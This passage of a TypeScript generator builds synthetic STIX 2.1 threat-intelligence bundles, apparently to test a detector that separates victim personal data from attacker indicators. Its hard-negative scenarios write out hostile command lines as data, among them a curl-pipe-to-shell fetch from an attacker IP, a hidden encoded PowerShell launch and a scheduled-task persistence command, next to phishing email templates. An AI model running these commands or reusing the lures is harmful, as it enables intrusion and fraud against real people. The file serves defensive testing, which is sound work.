      const recipient = b.add({ type: 'email-addr', spec_version: '2.1', id: g.id('email-addr'), value: g.email(victim, false), display_name: victim.full });
      b.label(recipient, 'value', 'email');
      b.label(recipient, 'display_name', 'person-name');
      const message = b.add({
        type: 'email-message',
        spec_version: '2.1',
        id: g.id('email-message'),
        is_multipart: false,
        from_ref: sender.id,
        to_refs: [recipient.id],
        subject: rng.pick(['Invoice overdue', 'Action required: password expiry', 'Shared document', 'Payroll update']),
        body: `Dear ${victim.first},\nPlease review the attached document at ${actor.url} before Friday.\nRegards,\nAccounts team`,
        additional_header_fields: { 'X-Mailer': 'Microsoft Outlook 16.0', 'Reply-To': actor.email },
      });
      b.label(message, 'body', 'person-name');
      addIndicator(g, rng, b, actor, undefined);
      b.patternValues.push(actor.email);
    },
    () => {
      const victim = g.person();
      const account = b.add({ type: 'user-account', spec_version: '2.1', id: g.id('user-account'), user_id: victim.login, account_login: victim.login, display_name: victim.full, account_type: 'windows-domain' });
      b.label(account, 'user_id', 'account-identifier');
      b.label(account, 'account_login', 'account-identifier');
      b.label(account, 'display_name', 'person-name');
      if (rng.chance(0.5)) {
        const withCredential = b.add({ type: 'user-account', spec_version: '2.1', id: g.id('user-account'), user_id: 'svc_backup', credential: g.secret(), account_type: 'windows-local' });
        b.label(withCredential, 'user_id', 'account-identifier');
        b.label(withCredential, 'credential', 'credential');
      }
    },
    () => {
      const victim = g.person();
      const process = b.add({
        type: 'process',
        spec_version: '2.1',
        id: g.id('process'),
        pid: rng.int(100, 9000),
        command_line: rng.chance(0.5)
          ? `"C:\\Users\\${victim.login}\\AppData\\Roaming\\${rng.pick(['svc.exe', 'update.exe'])}" --silent`
          : `net use \\\\fs01\\share /user:CORP\\admin ${rng.pick(['password=', 'pwd='])}${g.secret()}`,
        environment_variables: { USERPROFILE: `C:\\Users\\${victim.login}`, COMPUTERNAME: 'WS-0142' },
      });
      const command = process.command_line as string;
      b.label(process, 'command_line', command.includes('Users') ? 'username-in-path' : 'credential');
      b.label(process, 'environment_variables.USERPROFILE', 'username-in-path');
    },
    () => {
      const victim = g.person();
      const directory = b.add({ type: 'directory', spec_version: '2.1', id: g.id('directory'), path: rng.pick([`C:\\Users\\${victim.login}\\Documents`, `/home/${victim.login}/.config`, `/Users/${victim.login}/Downloads`]) });
      b.label(directory, 'path', 'username-in-path');
    },
    () => {
      const victim = g.person();
      const key = b.add({
        type: 'windows-registry-key',
        spec_version: '2.1',
        id: g.id('windows-registry-key'),
        key: `HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProfileList\\S-1-5-21-${rng.int(1000000000, 3999999999)}-${rng.int(1000, 9999)}`,
        values: [{ name: 'ProfileImagePath', data: `C:\\Users\\${victim.login}`, data_type: 'REG_EXPAND_SZ' }],
      });
      b.label(key, 'values[0].data', 'username-in-path');
    },
    () => {
      const victim = g.person();
      const url = b.add({ type: 'url', spec_version: '2.1', id: g.id('url'), value: `https://${rng.pick(ACTOR_DOMAINS)}/verify?email=${encodeURIComponent(g.email(victim))}&session=${g.hash(16)}` });
      b.label(url, 'value', 'url-query-pii');
    },
    () => {
      const location = b.add({ ...sdoBase(g, 'location'), name: 'Victim office', country: 'US', street_address: g.address(), description: `Deliveries for the victim went to ${g.address()}.` });
      b.label(location, 'street_address', 'street-address');
      b.label(location, 'description', 'street-address');
    },
    () => {
      const ssn = g.ssn();
      const planted = plantedSentence(g, rng, freeKind());
      const incident = b.add({ ...sdoBase(g, 'incident'), name: `${rng.pick(MALWARE)} intrusion`, description: text(g, rng, actor, planted), x_victim_ssn: ssn.text.split('-').join('').split(' ').join('') });
      b.label(incident, 'description', planted.kind);
      b.label(incident, 'x_victim_ssn', 'ssn');
    },
    () => {
      const planted = plantedSentence(g, rng, rng.pick(['person-name', 'url-query-pii', 'email'] as const));
      const report = b.add({
        ...sdoBase(g, 'report'),
        name: `${rng.pick(THREAT_ACTORS)} activity update`,
        published: g.time(),
        report_types: ['threat-report'],
        object_refs: [g.id('indicator')],
        external_references: [{ source_name: 'internal-case', description: planted.text, external_id: `CASE-${rng.int(1000, 9999)}` }],
      });
      b.label(report, 'external_references[0].description', planted.kind);
    },
    () => {
      const planted = plantedSentence(g, rng, freeKind());
      const sighting = b.add({ ...sdoBase(g, 'sighting'), sighting_of_ref: g.id('indicator'), count: rng.int(1, 50), description: text(g, rng, actor, planted) });
      b.label(sighting, 'description', planted.kind);
    },
    () => {
      const traffic = b.add({
        type: 'network-traffic',
        spec_version: '2.1',
        id: g.id('network-traffic'),
        protocols: ['ipv4', 'tcp', 'http'],
        dst_port: 443,
        extensions: { 'http-request-ext': { request_method: 'get', request_value: '/api/v1/session', request_header: { Host: actor.domain, Authorization: `Bearer ${g.jwt()}` } } },
      });
      b.label(traffic, 'extensions.http-request-ext.request_header.Authorization', 'credential');
    },
    () => {
      const victim = g.person();
      const file = b.add({ type: 'file', spec_version: '2.1', id: g.id('file'), name: `${rng.pick(['Payroll', 'Resume', 'Offer_Letter', 'W2'])}_${victim.first}_${victim.last}.${rng.pick(['xlsx', 'docx', 'pdf'])}`.split(' ').join('_'), hashes: { 'SHA-256': g.hash() } });
      b.label(file, 'name', 'person-name');
    },
    () => {
      const victim = g.person();
      const cert = b.add({ type: 'x509-certificate', spec_version: '2.1', id: g.id('x509-certificate'), serial_number: g.hash(16), subject: `CN=${victim.full}, O=Contoso, E=${g.email(victim, false)}`, issuer: 'CN=Contoso Issuing CA 01, O=Contoso' });
      b.label(cert, 'subject', 'email');
    },
    () => {
      const person = g.person();
      const custom = b.add({ ...sdoBase(g, 'course-of-action'), name: 'Block the C2 domain', description: `Block ${actor.domain} at the proxy.`, x_reporter_contact: `${person.full} ${g.phone()}` });
      b.label(custom, 'x_reporter_contact', 'phone');
      b.label(custom, 'x_reporter_contact', 'person-name');
    },
  ];
  const count = rng.int(3, 6);
  for (let i = 0; i < count; i += 1) {
    rng.pick(scenarios)();
  }
  // Clean threat objects ride along in every bundle.
  addIndicator(g, rng, b, actor, text(g, rng, actor, undefined));
  return b.build('planted');
}

function hardNegativeBundle(g: Generator, rng: Prng): CorpusBundle {
  const b = new BundleBuilder();
  const actor = actorFor(g, rng);
  addActorIndicator(g, b, actor);
  const threat = rng.pick(THREAT_ACTORS);
  const malware = rng.pick(MALWARE);
  const [tid, technique] = rng.pick(TECHNIQUES);
  const scenarios: (() => void)[] = [
    () => {
      addIndicator(g, rng, b, actor, text(g, rng, actor, undefined));
    },
    () => {
      // The phishing sender is the indicator: its address is in the pattern and quoted in prose.
      const sender = b.add({ type: 'email-addr', spec_version: '2.1', id: g.id('email-addr'), value: actor.email, display_name: rng.pick(['Accounts Payable', 'IT Service Desk', 'DocuSign', 'Microsoft 365']) });
      b.add({ type: 'email-message', spec_version: '2.1', id: g.id('email-message'), is_multipart: false, from_ref: sender.id, subject: 'Invoice overdue', additional_header_fields: { 'Reply-To': actor.email, 'X-Mailer': 'PHPMailer 6.5.0' } });
      const indicator = addIndicator(g, rng, b, actor, `Phishing emails from ${actor.email} delivered ${malware} via ${technique} (${tid}).`);
      b.byIndicator[indicator.id] = [...(b.byIndicator[indicator.id] ?? []), actor.email];
      b.patternValues.push(actor.email);
    },
    () => {
      // A malicious URL with a query string, named by the pattern and quoted in the description.
      const url = b.add({ type: 'url', spec_version: '2.1', id: g.id('url'), value: actor.url });
      b.patternValues.push(url.value as string);
      b.add({ ...sdoBase(g, 'indicator'), name: 'Malicious URL', pattern: `[url:value = '${actor.url}']`, pattern_type: 'stix', valid_from: g.time(), description: `The payload was served from ${actor.url} to victims in ${rng.pick(['Germany', 'Brazil', 'Japan', 'Canada'])}.` });
    },
    () => {
      b.add({ ...sdoBase(g, 'malware'), name: malware, is_family: true, malware_types: ['trojan'], aliases: [malware.toUpperCase()], description: `${malware} is used by ${threat}. ${g.ctiSentence(actor)}` });
    },
    () => {
      b.add({ ...sdoBase(g, 'threat-actor'), name: threat, threat_actor_types: ['nation-state'], aliases: [rng.pick(THREAT_ACTORS)], description: `${threat} targets ${rng.pick(SECTORS)} organisations. ${g.ctiSentence(actor)}` });
    },
    () => {
      b.add({
        ...sdoBase(g, 'attack-pattern'),
        name: technique,
        description: `Adversaries may use ${technique} (${tid}). ${g.ctiSentence(actor)}`,
        external_references: [{ source_name: 'mitre-attack', external_id: tid, url: `https://attack.mitre.org/techniques/${tid.split('.').join('/')}/` }],
      });
    },
    () => {
      b.add({ ...sdoBase(g, 'course-of-action'), name: `Mitigate ${technique}`, description: `Block ${actor.domain} and ${actor.ip}. ${g.ctiSentence(actor)} Reset passwords for affected accounts.` });
    },
    () => {
      b.add({ ...sdoBase(g, 'identity'), name: rng.pick(['Contoso Financial Services', 'Acme Water Utility', 'Health-ISAC']), identity_class: 'organization', sectors: [rng.pick(SECTORS)], contact_information: rng.pick(['soc@contoso.com', 'security@acme-water.gov', 'abuse@riverside-clinic.org']) });
    },
    () => {
      b.add({ type: 'file', spec_version: '2.1', id: g.id('file'), name: rng.pick(['svchost.exe', 'rundll32.exe', 'msupd.dll', 'invoice_8812.docm', 'setup.msi']), hashes: { 'SHA-256': g.hash(), MD5: g.hash(32) }, size: rng.int(10000, 900000) });
      b.add({ type: 'directory', spec_version: '2.1', id: g.id('directory'), path: rng.pick(['C:\\Windows\\System32', 'C:\\Windows\\Temp', '/tmp/.X11-unix', '/home/ubuntu/.ssh', 'C:\\Users\\Public\\Libraries', 'C:\\ProgramData\\Microsoft']) });
    },
    () => {
      b.add({
        type: 'process',
        spec_version: '2.1',
        id: g.id('process'),
        pid: rng.int(100, 9000),
        command_line: rng.pick([
          `C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\${rng.hex(8)}.dll,DllRegisterServer`,
          `powershell.exe -nop -w hidden -enc ${g.base64url(64)}`,
          `cmd.exe /c schtasks /create /tn "OneDrive Sync" /tr C:\\Users\\Public\\sync.exe /sc minute /mo 30`,
          `/bin/sh -c "curl -fsSL http://${actor.ip}/x.sh | sh"`,
        ]),
      });
    },
    () => {
      b.add({ type: 'windows-registry-key', spec_version: '2.1', id: g.id('windows-registry-key'), key: `HKEY_USERS\\S-1-5-21-${rng.int(1000000000, 3999999999)}-${rng.int(1000000000, 3999999999)}-${rng.int(1000, 9999)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`, values: [{ name: 'SecurityHealth', data: 'C:\\Windows\\System32\\SecurityHealthSystray.exe', data_type: 'REG_SZ' }] });
    },
    () => {
      b.add({ ...sdoBase(g, 'note'), content: `${g.ctiSentence(actor)} ${g.ctiSentence(actor)}`, object_refs: [g.id('indicator')] });
    },
    () => {
      b.add({ ...sdoBase(g, 'report'), name: `${threat} uses ${malware}`, published: g.time(), object_refs: [g.id('indicator')], description: `${g.ctiSentence(actor)} ${g.ctiSentence(actor)}`, external_references: [{ source_name: 'vendor-blog', url: `https://www.${rng.pick(['mandiant.com', 'crowdstrike.com', 'microsoft.com', 'cisa.gov'])}/blog/${threat.toLowerCase().split(' ').join('-')}`, description: `Analysis of ${malware} by the vendor's threat intelligence team` }] });
    },
    () => {
      b.add({ ...sdoBase(g, 'vulnerability'), name: `CVE-20${rng.int(17, 25)}-${rng.int(1000, 49999)}`, description: `Remote code execution in ${rng.pick(PRODUCTS)}. ${g.ctiSentence(actor)}` });
    },
    () => {
      b.add({ ...sdoBase(g, 'sighting'), sighting_of_ref: g.id('indicator'), count: rng.int(1, 500), description: `Sighted ${rng.int(2, 90)} times across ${rng.int(2, 9)} sectors. ${g.ctiSentence(actor)}` });
    },
    () => {
      // Nuisance indicators: reserved addresses and popular bare domains.
      const nuisance = rng.pick([
        { type: 'ipv4-addr', value: rng.pick(['10.0.0.5', '192.168.1.10', '172.16.4.2', '127.0.0.1', '100.64.0.7', '169.254.10.1']) },
        { type: 'ipv6-addr', value: rng.pick(['::1', 'fe80::1ff:fe23:4567:890a', 'fd12:3456:789a::1']) },
        { type: 'domain-name', value: rng.pick(['google.com', 'www.microsoft.com', 'localhost', 'printer.local', 'example.com', 'router.home.arpa']) },
      ]);
      const object = b.add({ type: nuisance.type, spec_version: '2.1', id: g.id(nuisance.type), value: nuisance.value });
      b.nuisanceIds.push(object.id);
    },
    () => {
      // The attacker's own account, named by the pattern: actor-side.
      const login = rng.pick(['svc_backdoor', 'helpdesk_admin2', 'adm-temp', 'support_tmp', 'backup-svc']) + String(rng.int(1, 99));
      b.add({ type: 'user-account', spec_version: '2.1', id: g.id('user-account'), account_login: login, user_id: login, account_type: 'windows-domain' });
      const indicator = b.add({ ...sdoBase(g, 'indicator'), name: 'Rogue account', pattern: `[user-account:account_login = '${login}']`, pattern_type: 'stix', valid_from: g.time(), description: `The actor created ${login} for persistence (T1136.002).` });
      b.byIndicator[indicator.id] = [login];
      b.patternValues.push(login);
    },
    () => {
      b.add({ ...sdoBase(g, 'campaign'), name: `Operation ${rng.pick(['Ghost', 'Aurora', 'Sharpshooter', 'Dream Job', 'Cloud Hopper', 'Wocao'])}`, description: `${g.ctiSentence(actor)} ${g.ctiSentence(actor)}` });
    },
    () => {
      b.add({ type: 'ipv4-addr', spec_version: '2.1', id: g.id('ipv4-addr'), value: rng.chance(0.3) ? `198.51.100.${rng.int(1, 254)}` : actor.ip });
      b.add({ type: 'domain-name', spec_version: '2.1', id: g.id('domain-name'), value: actor.domain });
    },
  ];
  const count = rng.int(4, 8);
  for (let i = 0; i < count; i += 1) {
    rng.pick(scenarios)();
  }
  return b.build('hard-negative');
}

/** `bundles` planted bundles and `bundles` hard-negative bundles from `seed`. */
export function generateCorpus(options: GenerateCorpusOptions): LabelledCorpus {
  const rng = new Prng(options.seed);
  const g = new Generator(rng);
  const bundles: CorpusBundle[] = [];
  for (let i = 0; i < options.bundles; i += 1) {
    bundles.push(plantedBundle(g, rng));
    bundles.push(hardNegativeBundle(g, rng));
  }
  return { seed: options.seed, bundles };
}
